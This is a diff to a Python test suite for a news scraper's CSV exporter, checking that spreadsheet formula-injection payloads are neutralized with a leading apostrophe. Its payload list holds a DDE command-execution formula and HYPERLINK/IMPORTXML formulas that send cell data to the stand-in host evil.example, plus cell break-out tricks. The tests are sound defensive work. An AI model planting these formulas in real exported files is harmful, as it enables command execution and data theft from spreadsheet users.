@@ -33,27 +33,37 @@ from newsspider.pipelines.validate import ValidatePipeline
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 
 # OWASP "CSV Injection" payloads, plus the separator / quote tricks that try to break out of
-# a cell, and white space in front of the trigger.
+# a cell, and white space in front of the trigger: (payload, the text NormalizePipeline keeps:
+# leading white space and control characters dropped, a line break inside is one space)
 FORMULAS = [
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
-    "-2+3+cmd|' /C calc'!A0",
-    '","=1+1',  # try to close the quoted cell and start a new one
-    '";=1+1',
-    "',=1+1",
-    'a"\r\n"=1+1',  # try to end the row
-    "=1+1\x00",
+    ("=1+1", "=1+1"),
+    ("+1+1", "+1+1"),
+    ("-1+1", "-1+1"),
+    ("@SUM(1,1)", "@SUM(1,1)"),
+    ("\t=1+1", "=1+1"),
+    ("\r=1+1", "=1+1"),
+    ("\n=1+1", "=1+1"),
+    (" =1+1", "=1+1"),
+    ("\u00a0=1+1", "=1+1"),
+    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
+    (
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    ),
+    (
+        '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+        '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+    ),
+    ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+    ('","=1+1', '","=1+1'),  # try to close the quoted cell and start a new one
+    ('";=1+1', '";=1+1'),
+    ("',=1+1", "',=1+1"),
+    ('a"\r\n"=1+1', 'a" "=1+1'),  # try to end the row
+    ("=1+1\x00", "=1+1"),
 ]
+# the break-out attempts: they start with a quote or a letter, so a spreadsheet shows them as
+# text; the exporter must keep them as one cell, unchanged (no prefix)
+NOT_FORMULAS = {'","=1+1', '";=1+1', "',=1+1", 'a"\r\n"=1+1'}
 CONTROL = [
     "nul\x00in the middle",
     "bell\x07 and escape\x1b[31m red",
@@ -186,25 +196,33 @@ def assert_round_trip(item: Any, item_class: type) -> dict[str, str]:
     return row
 
 
-@pytest.mark.parametrize("payload", FORMULAS)
-def test_formula_payloads_are_neutralized_in_every_text_field(crawler: Any, payload: str) -> None:
+@pytest.mark.parametrize(("payload", "cleaned"), FORMULAS)
+def test_formula_payloads_are_neutralized_in_every_text_field(
+    crawler: Any, payload: str, cleaned: str
+) -> None:
     item = through_pipelines(
         crawler, good_article(headline=payload, description=payload, tags=[payload, "x"])
     )
     assert isinstance(item, Article)
+    # the data keeps the text (JSONL has no prefix) ...
+    assert (item.headline, item.description, item.tags) == (cleaned, cleaned, [cleaned, "x"])
     row = assert_round_trip(item, Article)
-    for name in ("headline", "description", "tags"):
-        value = row[name]
-        assert value == "" or value.startswith("'") or value[:1] not in "=+-@", (name, value)
+    # ... and the spreadsheet cell is that text, behind a ' exactly where it is a formula
+    cell = "'" + cleaned if payload not in NOT_FORMULAS else cleaned
+    assert (row["headline"], row["description"]) == (cell, cell)
+    assert row["tags"] == cell + LIST_SEPARATOR + "x"
+    (line,) = read_jsonl(export([item], Article)[1])
+    assert (line["headline"], line["tags"]) == (cleaned, [cleaned, "x"])
 
 
-@pytest.mark.parametrize("payload", FORMULAS)
-def test_formula_payloads_survive_the_exporter_raw(payload: str) -> None:
+@pytest.mark.parametrize(("payload", "_cleaned"), FORMULAS)
+def test_formula_payloads_survive_the_exporter_raw(payload: str, _cleaned: str) -> None:
     """Even without the normalizer (a Reject's copy, a future field) nothing breaks out."""
     entry = PopularEntry(run_id="r", list_name=payload, rank=1, headline=payload)
     csv_data, _ = export([entry], PopularEntry)
     (row,) = read_csv(csv_data)
-    assert row["headline"] == "'" + payload or payload.lstrip(" \u00a0")[:1] not in TRIGGERS
+    cell = payload if payload in NOT_FORMULAS else "'" + payload
+    assert (row["headline"], row["list_name"]) == (cell, cell)
     assert list(row) == [*field_names(PopularEntry), TRUNCATED_COLUMN]  # no extra column
 
 
